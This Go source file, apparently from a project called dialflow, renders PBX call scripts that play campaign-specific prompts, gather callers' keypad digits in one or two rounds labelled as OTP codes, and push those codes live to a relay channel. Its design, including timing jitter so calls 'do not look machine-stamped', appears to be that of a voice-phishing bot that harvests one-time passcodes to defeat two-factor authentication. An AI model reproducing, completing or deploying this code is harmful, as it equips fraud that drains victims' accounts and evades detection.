// Package action renders the XML dialogue scripts the PBX executes and
// applies their side effects: call-state transitions and pushed OTP traffic.
package action

import (
	"encoding/xml"
	"log/slog"
	"math/rand/v2"
	"strings"

	"github.com/dialflow/dialflow/internal/call"
	"github.com/dialflow/dialflow/internal/catalog"
	"github.com/dialflow/dialflow/internal/push"
)

// Notifier is the slice of the push registry the engine reports through.
type Notifier interface {
	Send(callID string, payload any) error
}

// Engine turns a dialogue step into the XML script for it. One engine
// serves every campaign.
type Engine struct {
	baseURL string
	calls   *call.Store
	catalog *catalog.Catalog
	notify  Notifier
	logger  *slog.Logger
}

// NewEngine creates the dialogue engine. baseURL is the externally
// reachable root of this service, used to build the callback URLs the PBX
// fetches.
func NewEngine(baseURL string, calls *call.Store, cat *catalog.Catalog, notify Notifier, logger *slog.Logger) *Engine {
	return &Engine{
		baseURL: strings.TrimRight(baseURL, "/"),
		calls:   calls,
		catalog: cat,
		notify:  notify,
		logger:  logger.With("subsystem", "action-engine"),
	}
}

// Respond executes the dialogue step status for the call and returns the
// XML script the PBX should run next. Failures degrade to a hangup script
// because the PBX can only interpret XML, never an error payload.
func (e *Engine) Respond(status, callID, digits string) []byte {
	data, ok := e.calls.Get(callID)
	if !ok {
		e.logger.Warn("action for unknown call", "call_id", callID, "status", status)
		return errorScript()
	}
	campaign := data.Campaign

	// A digit on the options menu picks the branch before anything else
	// runs.
	if status == catalog.StepOptions && digits != "" {
		selected := "2"
		if digits == "1" {
			selected = "1"
		}
		e.calls.Update(callID, func(d *call.Data) { d.SelectedOption = selected })
		data.SelectedOption = selected
		if selected == "1" {
			status = catalog.StepOption1
		} else {
			status = catalog.StepOption2
		}
	}

	sp, err := e.catalog.Lookup(campaign, status)
	if err != nil {
		e.logger.Warn("catalog miss",
			"campaign", campaign,
			"status", status,
			"call_id", callID,
		)
		return errorScript()
	}

	twoGather := e.catalog.TwoGather(campaign)

	switch {
	case status == catalog.StepGather && digits != "":
		if twoGather {
			e.calls.Update(callID, func(d *call.Data) { d.GatherStage = call.GatherStageFirst })
		}
		e.push(callID, push.OtpRelayMessage{CallID: callID, SendOtp: digits})

	case status == catalog.StepGather1 && digits != "":
		e.calls.Update(callID, func(d *call.Data) {
			d.GatherStage = call.GatherStageSecond
			d.State = catalog.StepGather1
		})
		e.push(callID, push.OtpCodeMessage{CallID: callID, OtpCode: digits})
		// The second OTP round hands control straight to its next step
		// instead of rendering one.
		return renderScript(response{Redirect: &redirectElem{URL: e.redirectURL(sp.Next)}})

	case (status == catalog.StepOption1 || status == catalog.StepOption2) && digits != "":
		e.push(callID, push.OtpRelayMessage{CallID: callID, SendOtp: digits})

	case status == catalog.StepConfirm:
		if twoGather && data.GatherStage == call.GatherStageSecond {
			e.calls.Update(callID, func(d *call.Data) { d.State = catalog.StepCompleted })
		} else if digits != "" {
			e.push(callID, push.OtpCodeMessage{
				CallID:         callID,
				OtpCode:        digits,
				SelectedOption: data.SelectedOption,
			})
		}
	}

	return e.renderStep(campaign, status, sp)
}

func (e *Engine) push(callID string, payload any) {
	if err := e.notify.Send(callID, payload); err != nil {
		e.logger.Warn("push failed", "call_id", callID, "error", err)
	}
}

// renderStep builds the script for one step. Terminal steps play out
// without a gather; everything else prompts and collects digits.
func (e *Engine) renderStep(campaign, status string, sp catalog.ActionSpec) []byte {
	media := audioPath(campaign, status)

	switch {
	case status == catalog.StepConfirm:
		return renderScript(response{Play: &playElem{Timeout: sp.Timeout, Media: media}})

	case strings.HasPrefix(status, catalog.StepCompleted):
		return renderScript(response{Play: &playElem{Media: media}})
	}

	timeout := sp.Timeout
	if status == catalog.StepAnswer {
		// Jitter the initial listening window so call starts do not look
		// machine-stamped.
		timeout = 10 + rand.IntN(6)
	}

	g := &gatherElem{
		Input:   "speech dtmf",
		Action:  e.nextURL(status, sp),
		Timeout: timeout,
	}
	if len(sp.FinishOnKey) == 1 {
		g.NumDigits = 0
		g.FinishOnKey = sp.FinishOnKey
	} else {
		g.NumDigits = sp.Digits
	}

	return renderScript(response{Play: &playElem{Media: media}, Gather: g})
}

// nextURL resolves where a step's gather posts its digits.
func (e *Engine) nextURL(status string, sp catalog.ActionSpec) string {
	if status == catalog.StepGather1 {
		// gather1 posts back to itself until validation steers away.
		return e.stepURL(catalog.StepGather1)
	}
	if sp.Next != "" {
		return e.resolveNext(sp.Next)
	}
	return e.stepURL(fallbackNext(status))
}

// fallbackNext is the follow-up step used when a catalog entry names none.
func fallbackNext(status string) string {
	switch status {
	case catalog.StepAnswer:
		return catalog.StepGather
	case catalog.StepGather:
		return catalog.StepConfirm
	case catalog.StepInvalid:
		return catalog.StepGather
	default:
		return catalog.StepCompleted
	}
}

// resolveNext honors absolute next values verbatim and roots relative ones
// under this service's action endpoint.
func (e *Engine) resolveNext(next string) string {
	if isAbsoluteURL(next) {
		return next
	}
	return e.baseURL + "/action/" + next
}

// redirectURL resolves the gather1 redirect target. Unlike gather actions,
// relative values here are rooted at the service base, not the action
// endpoint.
func (e *Engine) redirectURL(next string) string {
	if isAbsoluteURL(next) {
		return next
	}
	return e.baseURL + next
}

func (e *Engine) stepURL(step string) string {
	return e.baseURL + "/action/" + step
}

func isAbsoluteURL(s string) bool {
	return strings.HasPrefix(s, "http://") || strings.HasPrefix(s, "https://")
}

// audioPath names the prompt the PBX plays for a step. The PBX adds the
// sound: scheme itself.
func audioPath(campaign, status string) string {
	return "custom/" + campaign + "/" + status
}

type response struct {
	XMLName  xml.Name      `xml:"Response"`
	Play     *playElem     `xml:"Play"`
	Gather   *gatherElem   `xml:"Gather"`
	Redirect *redirectElem `xml:"Redirect"`
	Hangup   *hangupElem   `xml:"Hangup"`
}

type playElem struct {
	Timeout int    `xml:"timeout,attr,omitempty"`
	Media   string `xml:",chardata"`
}

type gatherElem struct {
	Input       string `xml:"input,attr"`
	Action      string `xml:"action,attr"`
	Timeout     int    `xml:"timeout,attr"`
	NumDigits   int    `xml:"numDigits,attr"`
	FinishOnKey string `xml:"finishOnKey,attr,omitempty"`
}

type redirectElem struct {
	URL string `xml:",chardata"`
}

type hangupElem struct{}

// errorScript is the script returned for any unservable request: hang the
// channel up.
func errorScript() []byte {
	return renderScript(response{Hangup: &hangupElem{}})
}

func renderScript(doc response) []byte {
	out, err := xml.Marshal(doc)
	if err != nil {
		// The document shapes above are static; Marshal cannot fail on
		// them.
		panic(err)
	}
	return append([]byte(xml.Header), out...)
}
